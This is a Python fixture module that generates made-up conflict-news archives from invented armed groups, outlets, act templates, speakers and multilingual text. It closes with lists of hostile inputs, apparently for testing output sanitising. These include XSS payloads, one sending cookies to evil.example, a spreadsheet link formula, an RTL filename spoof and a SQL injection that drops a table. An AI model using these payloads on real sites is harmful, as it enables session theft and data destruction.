"""What made-up archives are made of: invented armed groups, outlets, sentences, hostile bits.

Places and dates are real, everybody in them is invented: no made-up act is laid to a real group.
"""

from __future__ import annotations

ACTORS: tuple[tuple[str, int, str | None], ...] = (
    ("Amber Coast Army", 1, "XA"),
    ("Amber Coast Police", 1, "XA"),
    ("Republic Guard of Vell", 1, "XV"),
    ("Vellan Air Force", 1, "XV"),
    ("Army of Istmark", 1, "XI"),
    ("Istmark Border Service", 1, "XI"),
    ("Northern Lantern Front", 2, "XA"),
    ("People's Dawn Movement", 2, "XV"),
    ("Liberation Council of the Hills", 2, "XI"),
    ("Red Heron Brigades", 2, None),
    ("Sons of the Two Rivers", 2, "XA"),
    ("Free Plains Army", 2, "XV"),
    ("Youth League of Order", 3, "XA"),
    ("Harbour Committees", 3, "XV"),
    ("White Kite Militia", 3, "XI"),
    ("Orru Herders", 4, "XA"),
    ("Tamsin Farmers' Guard", 4, "XA"),
    ("Beni Sawa clan", 4, None),
    ("Kolde Hunters", 4, "XI"),
    ("rioters", 5, None),
    ("protesters", 6, None),
    ("Teachers' Union of Vell", 6, "XV"),
    ("students", 6, None),
    ("civilians", 7, None),
    ("villagers", 7, None),
    ("market traders", 7, None),
    ("aid workers", 7, None),
    ("journalists", 7, None),
    ("Joint Stabilisation Mission", 8, None),
    ("Coalition of the Straits", 8, None),
    ("Grey Anchor Security", 8, None),
)

OUTLETS = (
    "The Amber Herald", "Vell Today", "Istmark Gazette", "Plains Observer", "Harbour Daily",
    "River Monitor", "Radio Two Rivers", "The Lantern", "Border Post", "Straits Times of Vell",
    "Hill Country News", "Channel Nine", "Morning Ledger", "Evening Ledger", "The Correspondent",
)  # fmt: skip
AGENCIES = ("Northwire", "Meridian Press", "Allied Dispatch")

# type: what is done, trigger, weapon
ACTS: dict[str, tuple[str, str, str | None]] = {
    "armed_clash": ("exchanged fire with", "exchanged fire", None),
    "government_regains_territory": ("retook the district from", "retook", None),
    "non_state_overtakes_territory": ("seized the town from", "seized", None),
    "chemical_weapon": ("used gas against", "used gas", "gas"),
    "air_drone_strike": ("bombed positions of", "bombed", "a drone"),
    "suicide_bomb": ("blew up a car among", "blew up", "a car bomb"),
    "shelling_artillery_missile": ("shelled", "shelled", "mortars"),
    "remote_explosive_ied": ("set off a roadside bomb against", "set off", "a roadside bomb"),
    "grenade": ("threw a grenade at", "threw", "a grenade"),
    "attack": ("opened fire on", "opened fire", "rifles"),
    "abduction": ("abducted several of the", "abducted", None),
    "peaceful_protest": ("marched against", "marched", None),
    "violent_demonstration": ("stoned offices of", "stoned", "stones"),
    "mob_violence": ("beat members of", "beat", "clubs"),
    "arrests": ("arrested members of", "arrested", None),
    "agreement": ("signed a truce with", "signed a truce", None),
    "looting_property_destruction": ("burned houses of", "burned", None),
    "displacement": ("drove out", "drove out", None),
    "military_operation": ("launched an operation against", "launched an operation", None),
}
TYPES = tuple(ACTS)
HARMLESS = frozenset({"peaceful_protest", "agreement", "arrests"})

SPEAKERS: tuple[tuple[str, str], ...] = (
    ("a military spokesman", "role_only"),
    ("the health ministry", "institution"),
    ("residents", "eyewitness"),
    ("a hospital doctor", "role_only"),
    ("local officials", "anonymous_group"),
    ("the Office for Peace Watch", "institution"),
    ("a witness", "eyewitness"),
    ("the district governor", "role_only"),
)

FILLERS = (
    "Shops stayed shut on the next morning and buses took the long way round.",
    "The road to the south has been closed for three weeks.",
    "Talks between the two sides broke down in the spring.",
    "The rains have made the tracks in the hills impassable for lorries.",
    "Schools in the district have been closed since the start of the term.",
    "Nobody answered calls to the governor's office.",
)
MARGINS = (
    "الشهود قالوا إن الطريق مغلق",
    "🚑 Ambulances 🚑🏽 were late.",
    "Zu\u0308rich, Ka\u0308lte und ein O\u0308lfeld",
    "Жители ждут новостей.",
)
"""Right-to-left text, emoji, combining marks: each code point is one offset."""

HOSTILE = (
    "<script>document.title='pwned'</script>",
    '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">',
    "<svg/onload=alert(1)><animate onbegin=alert(2)>",
    '"><style>*{background:url(https://evil.example/c)}</style>',
    "[click](javascript:alert(1)) ![i](https://evil.example/p.png)",
    "\u202egnp.exe\u202c \u2066abc\u2069",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '=HYPERLINK("https://evil.example","open")',
    "' OR 1=1; DROP TABLE incidents; --",
)
HOSTILE_URLS = (
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "//evil.example/x",
)
